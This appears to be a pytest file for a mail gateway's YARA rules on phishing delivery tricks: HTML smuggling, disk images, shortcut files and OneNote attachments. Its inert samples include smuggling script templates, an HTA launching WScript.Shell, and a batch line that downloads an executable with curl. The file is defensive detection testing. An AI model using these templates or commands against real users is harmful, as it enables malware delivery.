"""The packaged mail-threat rules (scanner/rules/mail_threats.yar): hits, misses, live edits."""

from __future__ import annotations

import base64
import os
import shutil
import struct
import uuid
from email.message import EmailMessage
from pathlib import Path

import pytest
from support import samples

from mxgate.tenants import Policy
from scanner.engines.common import ParsedMessage, Part
from scanner.engines.yara_engine import PACKAGED_RULES, YaraEngine
from scanner.mime import parse
from scanner.policy import decide

SMUGGLE_BLOB = b"""<!DOCTYPE html><html><body><script>
var b = new Blob([atobish(payload)], {type: 'application/octet-stream'});
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(b, 'inv.iso'); }
else { var a = document.createElement('a'); a.href = URL.createObjectURL(b);
       a.download = 'inv.iso'; document.body.appendChild(a); a.click(); }
</script></body></html>"""
SMUGGLE_URL_ONLY = SMUGGLE_BLOB.replace(b"msSaveOrOpenBlob", b"somethingElse")
SMUGGLE_ATOB = (
    b"<html><script>var d = atob('"
    + base64.b64encode(b"MZ\x90\x00" + bytes(60))
    + b"'); save(d);</script></html>"
)
SMUGGLE_DATA_URI = (
    b'<html><body><a href="data:application/zip;base64,'
    + base64.b64encode(b"PK\x03\x04" + bytes(40))
    + b'" download="invoice.zip">get</a></body></html>'
)
# Ordinary web mail: a chart made from a Blob for display, an inline image as a data: URI.
HTML_BENIGN = b"""<html><body><img src="data:image/png;base64,iVBORw0KGgo=">
<script>var b = new Blob(['<svg/>'], {type: 'image/svg+xml'});
document.getElementById('c').src = URL.createObjectURL(b);</script>
<p>Please download the report from our portal.</p></body></html>"""

ONENOTE = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le
FDSO = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
LNK_CLSID = uuid.UUID("00021401-0000-0000-C000-000000000046").bytes_le


def iso() -> bytes:
    image = bytearray(0x8800)
    image[0x8000:0x8006] = b"\x01CD001"  # primary volume descriptor
    return bytes(image)


def lnk() -> bytes:
    return struct.pack("<I", 0x4C) + LNK_CLSID + bytes(56) + b"C:\\Windows\\System32\\cmd.exe"


def vhd() -> bytes:
    return bytes(4096) + b"conectix" + bytes(504)


def onenote(payload: bytes | None) -> bytes:
    body = ONENOTE + bytes(200)
    if payload is not None:
        body += FDSO + struct.pack("<QI", len(payload), 0) + bytes(8) + payload
    return body + bytes(100)


HTA = b'<html><HTA:APPLICATION id="x"/><script>new ActiveXObject("WScript.Shell").Run("calc")'

HITS = {
    "smuggle-blob": ("page.html", SMUGGLE_BLOB, "HTML_Smuggling_Blob_Download"),
    "smuggle-objecturl": ("page.htm", SMUGGLE_URL_ONLY, "HTML_Smuggling_Blob_Download"),
    "smuggle-atob": ("page.html", SMUGGLE_ATOB, "HTML_Smuggling_Embedded_Payload"),
    "smuggle-data-uri": ("page.html", SMUGGLE_DATA_URI, "HTML_Smuggling_Embedded_Payload"),
    "iso": ("scan.img", iso(), "Disk_Image_ISO9660"),
    "vhd": ("disk.vhd", vhd(), "Disk_Image_VHD"),
    "lnk": ("invoice.pdf.lnk", lnk(), "Windows_Shortcut_LNK"),
    "onenote-hta": ("notes.one", onenote(HTA), "OneNote_Embedded_Executable_Content"),
    "onenote-bat": (
        "notes.one",
        onenote(b"@echo off\r\ncurl -o x.exe http://x\r\n"),
        "OneNote_Embedded_Executable_Content",
    ),
}
MISSES = {
    "benign-html": HTML_BENIGN,
    "onenote-pictures-only": onenote(b"\x89PNG\r\n\x1a\n" + bytes(64)),
    "onenote-no-embedded-file": onenote(None) + b"WScript.Shell",
    "cd001-elsewhere": bytes(100) + b"\x01CD001" + bytes(0x8800),
    "text-mentioning-tricks": b"msSaveOrOpenBlob and conectix and CD001 are words here",
}


@pytest.fixture(scope="module")
def engine() -> YaraEngine:
    return YaraEngine()


def _mail_zipped(name: str, data: bytes) -> bytes:
    m = EmailMessage()
    m["Subject"] = "documents"
    m.set_content("see attached\n")
    m.add_attachment(
        samples.zip_bytes({name: data}),
        maintype="application",
        subtype="zip",
        filename="documents.zip",
    )
    return m.as_bytes()


@pytest.mark.parametrize("case", sorted(HITS))
async def test_hits_inside_archives_are_content_matches(engine: YaraEngine, case: str) -> None:
    name, data, rule = HITS[case]
    f = await engine.check(parse(_mail_zipped(name, data), message_id="m", tenant="t"))
    assert (f.outcome, f.symbols) == ("match", (rule,))
    assert f.detail[rule] == f"2/documents.zip!{name}"
    # Content matches are the tenant's call, not a virus verdict.
    d = decide([f], Policy(on_content_match="tag"))
    assert d.action == "tag" and d.reasons == (f"content:yara:{rule}",)


@pytest.mark.parametrize("case", sorted(MISSES))
async def test_misses(engine: YaraEngine, case: str) -> None:
    m = ParsedMessage(
        "m", "t", b"", (), (Part("1", "x", "application/octet-stream", MISSES[case]),)
    )
    f = await engine.check(m)
    assert (f.outcome, f.symbols) == ("clean", ())


async def test_editing_a_packaged_rule_file_takes_effect_without_restart(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    shutil.copytree(PACKAGED_RULES, rules)
    eng = YaraEngine(rules, reload_interval=0)
    before = eng.rules_version
    smuggled = ParsedMessage("m", "t", b"", (), (Part("1", "p.html", "text/html", SMUGGLE_BLOB),))
    benign = ParsedMessage("m", "t", b"", (), (Part("1", "p.html", "text/html", HTML_BENIGN),))
    assert (await eng.check(smuggled)).symbols == ("HTML_Smuggling_Blob_Download",)
    assert (await eng.check(benign)).outcome == "clean"

    # Ops loosen the rule in place: any mention of "download" next to a Blob URL now counts.
    path = rules / "mail_threats.yar"
    text = path.read_text()
    strict = r"$download = /\.\s*download\s*=/ nocase"
    edited = text.replace(strict, '$download = "download" nocase')
    assert edited != text
    path.write_text(edited)
    os.utime(path, ns=(1, 10**18))  # a new mtime even on coarse clocks

    f = await eng.check(benign)  # reload_interval=0: the next scan sees the edit
    assert f.symbols == ("HTML_Smuggling_Blob_Download",)
    assert f.rules_version == eng.rules_version != before
